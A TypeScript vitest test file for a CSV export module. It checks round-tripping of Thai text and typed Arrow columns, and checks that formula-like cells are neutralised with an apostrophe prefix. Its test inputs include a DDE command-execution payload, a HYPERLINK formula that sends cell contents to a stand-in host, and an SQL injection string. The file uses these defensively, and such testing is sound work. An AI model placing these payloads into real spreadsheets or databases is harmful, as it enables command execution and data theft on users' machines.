import {
  DateDay,
  Float64,
  Int32,
  Int64,
  Table,
  TimestampMicrosecond,
  Utf8,
  vectorFromArray,
} from 'apache-arrow';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { BOM, csvFromArrow, csvFromRows, DEMO_NOTE, neutraliseFormula } from './csv';

const DAY = 86_400_000;

/** Parses exported CSV back with papaparse, checking the BOM and the CRLF line ends first. */
function parseBack(csv: string): string[][] {
  expect(csv.startsWith(BOM)).toBe(true);
  expect(csv.endsWith('\r\n')).toBe(true);
  const parsed = Papa.parse<string[]>(csv.slice(BOM.length), {
    newline: '\r\n',
    skipEmptyLines: true,
  });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

const TEXTS = [
  'กรุงเทพมหานคร',
  'นครราชสีมา "โคราช", ภาคอีสาน',
  'line one\r\nline two\nline three',
  '-5',
  '-1,234.50',
  '+66',
  '-',
  "-cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.example/?q="&A1,"click")',
  '+1+1',
  '@SUM(A1:A2)',
  '\tindent',
  '\r=1',
  "x'; DROP TABLE complaints; --",
  '',
];
const EXPECTED_TEXTS = [
  'กรุงเทพมหานคร',
  'นครราชสีมา "โคราช", ภาคอีสาน',
  'line one\r\nline two\nline three',
  '-5',
  '-1,234.50',
  '+66',
  '-',
  "'-cmd|' /C calc'!A0",
  '\'=HYPERLINK("http://x.example/?q="&A1,"click")',
  "'+1+1",
  "'@SUM(A1:A2)",
  "'\tindent",
  "'\r=1",
  "x'; DROP TABLE complaints; --",
  '',
];

describe('csvFromArrow', () => {
  const n = TEXTS.length;
  const table = new Table({
    name: vectorFromArray(TEXTS, new Utf8()),
    value: vectorFromArray(
      Array.from({ length: n }, (_, i) => (i === 1 ? null : -5 + i * 0.5)),
      new Float64(),
    ),
    count: vectorFromArray(
      Array.from({ length: n }, (_, i) => BigInt(-i * 1_000_000_000_000)),
      new Int64(),
    ),
    code: vectorFromArray(
      Array.from({ length: n }, (_, i) => (i % 2 ? null : -10 - i)),
      new Int32(),
    ),
    week_end: vectorFromArray(
      Array.from({ length: n }, (_, i) => (i === 2 ? null : Date.UTC(2024, 0, 7) + i * DAY)),
      new DateDay(),
    ),
    at: vectorFromArray(
      Array.from({ length: n }, (_, i) => Date.UTC(2024, 3, 13, 8, 15, i)),
      new TimestampMicrosecond(),
    ),
  });

  it('round-trips Thai text, quotes, newlines, negatives, nulls and dates through papaparse', () => {
    const rows = parseBack(csvFromArrow(table));
    expect(rows[0]).toEqual(['name', 'value', 'count', 'code', 'week_end', 'at']);
    expect(rows).toHaveLength(n + 1);
    rows.slice(1).forEach((row, i) => {
      expect(row[0]).toBe(EXPECTED_TEXTS[i]);
      expect(row[1]).toBe(i === 1 ? '' : String(-5 + i * 0.5));
      expect(row[2]).toBe(String(-i * 1_000_000_000_000));
      expect(row[3]).toBe(i % 2 ? '' : String(-10 - i));
      expect(row[4]).toBe(
        i === 2 ? '' : new Date(Date.UTC(2024, 0, 7) + i * DAY).toISOString().slice(0, 10),
      );
      expect(row[5]).toBe(`2024-04-13 08:15:${String(i).padStart(2, '0')}`);
    });
  });

  it('writes numbers unformatted, never with the formula prefix', () => {
    const lines = csvFromArrow(table).split('\r\n');
    expect(lines[1]).toBe('กรุงเทพมหานคร,-5,0,-10,2024-01-07,2024-04-13 08:15:00');
  });

  it('adds a data_note column with the demo label when asked', () => {
    const rows = parseBack(csvFromArrow(table, { demo: true }));
    expect(rows[0]?.at(-1)).toBe('data_note');
    expect(new Set(rows.slice(1).map((r) => r.at(-1)))).toEqual(new Set([DEMO_NOTE]));
    expect(parseBack(csvFromArrow(table))[0]).not.toContain('data_note');
  });

  it('neutralises formulas in headers too and keeps an existing data_note column', () => {
    const odd = new Table({
      '=cmd()': vectorFromArray(['a'], new Utf8()),
      data_note: vectorFromArray(['mine'], new Utf8()),
    });
    const rows = parseBack(csvFromArrow(odd, { demo: true }));
    expect(rows).toEqual([
      ["'=cmd()", 'data_note', 'data_note_'],
      ['a', 'mine', DEMO_NOTE],
    ]);
  });
});

describe('csvFromRows', () => {
  it('writes plain rows with date columns as ISO dates', () => {
    const csv = csvFromRows(
      [
        { key: 'province', header: 'จังหวัด' },
        { key: 'day', kind: 'date' },
        { key: 'deaths' },
        { key: 'ok' },
      ],
      [
        { province: 'เชียงใหม่', day: new Date(Date.UTC(2025, 3, 11)), deaths: -0.5, ok: true },
        { province: '=1+1', day: null, deaths: null, ok: false },
      ],
    );
    expect(parseBack(csv)).toEqual([
      ['จังหวัด', 'day', 'deaths', 'ok'],
      ['เชียงใหม่', '2025-04-11', '-0.5', 'true'],
      ["'=1+1", '', '', 'false'],
    ]);
  });
});

describe('neutraliseFormula', () => {
  it.each([
    ['-5', '-5'],
    ['+3.5e2', '+3.5e2'],
    ['-12%', '-12%'],
    ['-.5', '-.5'],
    ['-5 apples', "'-5 apples"],
    ['-2+3', "'-2+3"],
    ['@x', "'@x"],
    ['plain = text', 'plain = text'],
  ])('%j -> %j', (input, output) => {
    expect(neutraliseFormula(input)).toBe(output);
  });
});
